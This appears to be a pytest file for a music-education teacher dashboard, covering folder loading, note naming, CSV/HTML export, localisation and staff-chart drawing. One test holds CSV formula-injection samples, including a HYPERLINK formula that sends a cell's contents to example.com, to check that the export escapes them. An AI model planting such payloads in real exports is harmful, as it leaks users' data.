"""The teacher's dashboard: read a folder, change the naming, export, all without code."""

from __future__ import annotations

import contextlib
import io
from pathlib import Path

from musicgames import progress
from musicgames.progress import ProgressStore
from musicgames.teacher import class_dashboard


def _quiet(action):  # type: ignore[no-untyped-def]
    """Run ``action`` with what Output widgets print outside a notebook thrown away."""
    with contextlib.redirect_stdout(io.StringIO()):
        return action()


def _class(tmp_path: Path) -> Path:
    folder = progress.demo_class(tmp_path / "class", students=2)
    (folder / "junk.sqlite3").write_bytes(b"junk")
    with ProgressStore(folder / "ana.sqlite3") as store:
        store.record("quiz", "D major", "D major", False, 900.0)
        store.record("lesson", "01-the-staff/line-or-space", "line", True, 900.0)
    return folder


def _small_class(tmp_path: Path) -> Path:
    """Two students with a few answers, and a damaged file: Ana's report has every chart and
    table, Bruno's only his days (the fewest charts to draw that still show every kind)."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "junk.sqlite3").write_bytes(b"junk")
    with ProgressStore(folder / "ana.sqlite3", student="Ana") as store:
        store.record("drill", "Sol3", "Sol", True, 1300.0)
        store.record("drill", "Fa3", "Mi", False, 1250.0)
        store.record("quiz", "D major", "D major", False, 900.0)
        store.record("lesson", "01-the-staff/line-or-space", "line", True, 900.0)
    with ProgressStore(folder / "bruno.sqlite3", student="Bruno") as store:
        store.record("lesson", "01-the-staff/line-or-space", "space", False, 2100.0)
    return folder


def test_the_dashboard_reads_a_folder_typed_in_its_box(tmp_path: Path) -> None:
    folder = _class(tmp_path)
    board = _quiet(lambda: class_dashboard(None, export_to=tmp_path))
    assert board.klass.students == ["Ana", "Bruno", "Chloé", "Dmitri"]  # the demo class
    board.folder.value = str(folder)
    _quiet(board.load_button.click)
    assert board.klass.students == ["Ana", "Bruno"]
    assert "junk.sqlite3" in {item.file for item in board.klass.skipped}
    assert "Not read: 1" in board.status.value
    board.folder.value = str(tmp_path / "nowhere")
    _quiet(board.load_button.click)
    assert "is not a folder" in board.status.value
    assert board.klass.students == ["Ana", "Bruno"]  # what was shown stays


def test_the_weakest_column_uses_one_naming_for_notes_and_chords(tmp_path: Path) -> None:
    klass = progress.open_class(_class(tmp_path))
    letters = klass.table(naming="letters")
    solfege = klass.table(naming="solfege")
    weakest = letters.headers.index("weakest")
    for row_l, row_s in zip(letters.rows, solfege.rows, strict=True):
        name_l, name_s = row_l[weakest], row_s[weakest]
        assert name_l[0] in "ABCDEFG", name_l
        assert name_s.split()[0].rstrip("0123456789♯♭#b") in (
            "Do", "Re", "Mi", "Fa", "Sol", "La", "Si"), name_s
    assert progress.item_label("D major", "solfege") == "Re major"
    assert progress.item_label("Fa#3", "letters") == "F♯4"


def test_exports_write_a_csv_and_an_html_report_outside_the_class_folder(tmp_path: Path) -> None:
    folder = _small_class(tmp_path)
    exports = tmp_path / "exports"
    exports.mkdir()
    board = _quiet(lambda: class_dashboard(folder, naming="letters", language="es",
                                           export_to=exports))
    before = sorted(p.name for p in folder.iterdir())
    board.csv_button.click()
    assert board.status.value.startswith("Se escribió: ")
    board.html_button.click()
    csv_rows = progress.read_csv(exports / "class-progress.csv")
    assert {a.student for a in csv_rows} == {"Ana", "Bruno"}
    html = (exports / "class-report.html").read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and "data:image/png;base64," in html
    assert "Ana" in html and "Bruno" in html and "Lección 1 · El pentagrama" in html
    assert sorted(p.name for p in folder.iterdir()) == before


def test_the_staff_chart_draws_an_engraved_treble_clef() -> None:
    from matplotlib.patches import PathPatch

    klass = progress.open_class(None)
    figure = progress.plot_notes(klass.answers)
    patches = [p for p in figure.axes[0].patches if isinstance(p, PathPatch)]
    assert len(patches) == 1
    box = patches[0].get_path().get_extents()
    assert 6.5 < box.height < 7.5  # the G clef spans about 7 staff spaces
    assert not any("clef" in t.get_text() for t in figure.axes[0].texts)


def test_the_dashboard_speaks_spanish_with_a_click(tmp_path: Path) -> None:
    folder = _small_class(tmp_path)
    board = _quiet(lambda: class_dashboard(folder, export_to=tmp_path))
    assert board.load_button.description == "Read the folder"
    board.languages.value = "es"
    _quiet(lambda: None)
    assert board.load_button.description == "Leer la carpeta"
    assert board.status.value.startswith("Se leyó ")
    klass = board.klass
    table = klass.table(naming="solfege", language="es")
    assert table.headers[-1] == "más débil" and table.caption == "Clase"
    assert any("," in row[3] for row in table.rows)  # "1,30 s": the Spanish decimal mark
    assert klass.lessons_table(language="es").headers[1] == "lección"
    report = klass.report(language="es")
    assert report.title == "La clase"
    figure = report.parts[1]
    assert figure.axes[0].get_title() == "La clase: progreso por días"
    html = board.export_html().read_text(encoding="utf-8")
    assert '<html lang="es">' in html and "Progreso de la clase" in html


def test_the_teachers_notebook_shows_the_dashboard_and_the_deck_button() -> None:
    import json

    notebook = Path(__file__).parent.parent / "notebooks" / "teacher.ipynb"
    code = [
        "".join(cell["source"])
        for cell in json.loads(notebook.read_text(encoding="utf-8"))["cells"]
        if cell["cell_type"] == "code"
    ]
    assert any("class_dashboard()" in source for source in code)
    assert any("deck_button(" in source for source in code)


def _glyph_at(outline, name: str) -> tuple[float, float] | None:  # type: ignore[no-untyped-def]
    """Where the SMuFL glyph ``name`` has been moved to, if ``outline`` is that glyph."""
    import numpy as np

    from musicgames.smufl import glyph_path

    glyph = glyph_path(name).vertices
    drawn = outline.vertices
    if drawn.shape != glyph.shape:
        return None
    offset = drawn[0] - glyph[0]
    if not np.allclose(drawn - offset, glyph, atol=1e-9):
        return None
    return float(offset[0]), float(offset[1])


def test_the_staff_chart_draws_sharps_and_flats_left_of_their_notes() -> None:
    """Mi♭3 sits on Mi's line with a flat before it, Sol♯3 on Sol's line with a sharp; Mi3,
    right after Mi♭3, has a natural cancelling the flat (else a musician reads Mi♭ again),
    while Sol3, Fa3 and Mi4 have no sign. Lines, and which sign each note shows, are checked
    against music21 (the chart read as one line of music, ``makeAccidentals``)."""
    from matplotlib.patches import Ellipse, PathPatch
    from music21.note import Note as Music21Note
    from music21.pitch import Pitch
    from music21.stream import Stream

    from musicgames.progress import Answer
    from musicgames.smufl import glyph_path
    from musicgames.theory import Note

    names = ["Mi3", "Mi♭3", "Fa3", "Sol♯3", "Sol3", "La3", "Do♯3", "Mi4"]
    when = "2026-03-02T10:00:00+00:00"
    rows = [Answer("Ana", when, "drill", Note.parse(n).solfege, "x", True, 800.0) for n in names]
    figure = progress.plot_notes(rows, naming="solfege")
    (ax,) = [a for a in figure.axes if a.get_title()]
    heads = sorted((p for p in ax.patches if isinstance(p, Ellipse)), key=lambda h: h.center[0])
    outlines = [p.get_path() for p in ax.patches if isinstance(p, PathPatch)]
    signs = {"sharp": "accidentalSharp", "flat": "accidentalFlat",
             "natural": "accidentalNatural"}
    placed = [(name, where) for outline in outlines for name in signs.values()
              if (where := _glyph_at(outline, name)) is not None]
    notes = sorted((Note.parse(n) for n in names), key=lambda n: (n.midi, n.alter))
    (clef_x,) = [at[0] for o in outlines if (at := _glyph_at(o, "gClef")) is not None]
    clef_right = clef_x + glyph_path("gClef").get_extents().x1
    assert len(heads) == len(notes) == 8
    line = Stream([Music21Note(Pitch(n.scientific)) for n in notes])
    line.makeAccidentals(inPlace=True, cautionaryPitchClass=False)
    engraved = [p.accidental if p.accidental and p.accidental.displayStatus else None
                for p in line.pitches]
    shown = {n.solfege: a.name for n, a in zip(notes, engraved, strict=True) if a is not None}
    assert shown == {"Do#3": "sharp", "Mib3": "flat", "Mi3": "natural", "Sol#3": "sharp"}
    bottom_line = Pitch("E4").diatonicNoteNum  # the treble staff's bottom line: Mi3
    for index, (note, head, accidental) in enumerate(zip(notes, heads, engraved, strict=True)):
        pitch = Pitch(note.scientific)
        x, y = head.center
        assert y == (pitch.diatonicNoteNum - bottom_line) / 2, note  # its own line or space
        mine = [(name, at) for name, at in placed if abs(at[1] - y) < 1e-9 and at[0] < x
                and (index == 0 or at[0] > heads[index - 1].center[0])]
        if accidental is None:
            assert mine == [], note
            continue
        assert len(mine) == 1, (note, "no sign drawn before it")
        ((name, (left, _)),) = mine
        assert name == signs[accidental.name], note
        right = left + glyph_path(name).get_extents().x1
        gap = (x - head.width / 2) - right
        assert 0.1 <= gap <= 0.4, (note, gap)  # just left of the head, as engraved
        # and clear of what comes before it: the note before, ledger line and all, or the clef
        before = heads[index - 1].center[0] + 0.75 if index else clef_right
        assert left > before, note
    assert len(placed) == 4


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """Names and answers are typed by students: a cell a spreadsheet would run as a formula
    (= + - @, a tab or a carriage return first) is written with a ' in front (OWASP); a
    plain negative number stays a number; reading the export back gives every cell as it was."""
    import csv

    folder = tmp_path / "class"
    folder.mkdir()
    evil = '=HYPERLINK("http://example.com/?"&A1,"Click")'
    typed = [evil, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=1+1", "-3", "Sol"]
    with ProgressStore(folder / "x.sqlite3", student="=1+1") as store:
        for answer in typed:
            store.record("lesson", "04-sharps-and-flats/half-steps", answer, False, 900.0)
    exports = tmp_path / "exports"
    exports.mkdir()
    board = _quiet(lambda: class_dashboard(folder, export_to=exports))
    board.csv_button.click()
    path = exports / "class-progress.csv"
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    columns = progress.CSV_COLUMNS
    student, answer = columns.index("student"), columns.index("answer")
    assert {row[student] for row in rows} == {"'=1+1"}
    written = [row[answer] for row in rows]
    for cell in written:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-3", cell
    assert written[0] == f"'{evil}" and "-3" in written and "Sol" in written
    assert "''=1+1" in written  # a ' already there gets one more: read back unchanged
    back = progress.read_csv(path)
    assert [a.answer for a in back] == typed and {a.student for a in back} == {"=1+1"}


def test_the_dashboard_says_one_student_and_one_answer_in_the_singular(tmp_path: Path) -> None:
    """'1 estudiante, 1 respuesta', never '1 estudiantes'; more than one in the plural; in
    English too ('1 student', not '1 students')."""
    one = tmp_path / "one"
    one.mkdir()
    with ProgressStore(one / "ana.sqlite3", student="Ana") as store:
        store.record("drill", "La3", "La", True, 900.0, time="2026-03-07T10:00:00+00:00")
    said = {}
    for language in ("en", "es"):
        board = _quiet(lambda language=language: class_dashboard(
            one, language=language, export_to=tmp_path))
        said[language] = board.status.value
    assert "Read " in said["en"] and ": 1 student, 1 answer." in said["en"], said
    assert "Se leyó " in said["es"] and ": 1 estudiante, 1 respuesta." in said["es"], said
    two = _class(tmp_path)
    board = _quiet(lambda: class_dashboard(two, language="es", export_to=tmp_path))
    answers = len(board.klass.answers)
    assert f": 2 estudiantes, {answers} respuestas." in board.status.value


def test_the_dashboard_says_dates_the_languages_way(tmp_path: Path) -> None:
    """The days and 'last day' columns say 7 mar 2026 in Spanish (the days chart's month
    names) and 7 Mar 2026 in English, never 2026-03-07 (the CSV export keeps ISO times)."""
    import re

    from musicgames.i18n import text
    from musicgames.progress import daily_stats

    folder = tmp_path / "class"
    folder.mkdir()
    with ProgressStore(folder / "ana.sqlite3", student="Ana") as store:
        store.record("drill", "La3", "La", True, 900.0, time="2026-03-07T10:00:00+00:00")
    for language, day in (("es", "7 mar 2026"), ("en", "7 Mar 2026")):
        board = _quiet(lambda language=language: class_dashboard(
            folder, language=language, export_to=tmp_path))
        klass = board.klass
        table = klass.table(language=language)
        assert table.rows[0][table.headers.index(text("report.col.last", language))] == day
        days = progress.Table.of(daily_stats(klass.answers), language=language)
        assert days.rows[0][0] == day
        shown = "".join(part._repr_html_() for part in klass.report(language=language).parts
                        if isinstance(part, progress.Table))
        shown += klass.table(language=language)._repr_html_() + board.status.value
        assert day in shown and not re.search(r"\d{4}-\d\d-\d\d", shown), shown
    csv = board.export_csv().read_text(encoding="utf-8")
    assert "2026-03-07T10:00:00" in csv


def test_the_staff_chart_and_tables_order_two_names_of_one_key_by_letter() -> None:
    """Notes low to high, and two names of one key by letter, the same way every time: Do♯3
    before Re♭3 and Sol♯3 before La♭3 (by pitch, then the staff's lower letter first, as
    music21's pitch and diatonic step order them), on the staff chart and in its table."""
    from matplotlib.patches import Ellipse
    from music21.pitch import Pitch

    from musicgames.progress import Answer, item_stats
    from musicgames.theory import Note

    names = ["Lab3", "Reb3", "Sol#3", "Do#3", "Mib3", "Re#3", "La#3", "Sib3", "Sol3"]
    when = "2026-03-02T10:00:00+00:00"
    rows = [Answer("Ana", when, "drill", n, "x", True, 800.0) for n in names]
    notes = [Note.parse(n) for n in names]
    expected = [n.solfege for n in sorted(notes, key=lambda n: (
        Pitch(n.scientific).ps, Pitch(n.scientific).diatonicNoteNum))]
    assert expected[:2] == ["Do#3", "Reb3"] and expected.index("Sol#3") < expected.index("Lab3")
    assert [s.item for s in item_stats(rows)] == expected
    figure = progress.plot_notes(rows, naming="solfege")
    (ax,) = [a for a in figure.axes if a.get_title()]
    heads = sorted((p for p in ax.patches if isinstance(p, Ellipse)), key=lambda h: h.center[0])
    lines = [(Pitch(Note.parse(n).scientific).diatonicNoteNum - Pitch("E4").diatonicNoteNum) / 2
             for n in expected]
    assert [h.center[1] for h in heads] == lines  # each head on its name's line or space
    labels = sorted((t for t in ax.texts if "\n" in t.get_text()),
                    key=lambda t: t.get_position()[0])
    assert [t.get_text().split("\n")[0] for t in labels] == [
        Note.parse(n).label("solfege") for n in expected]
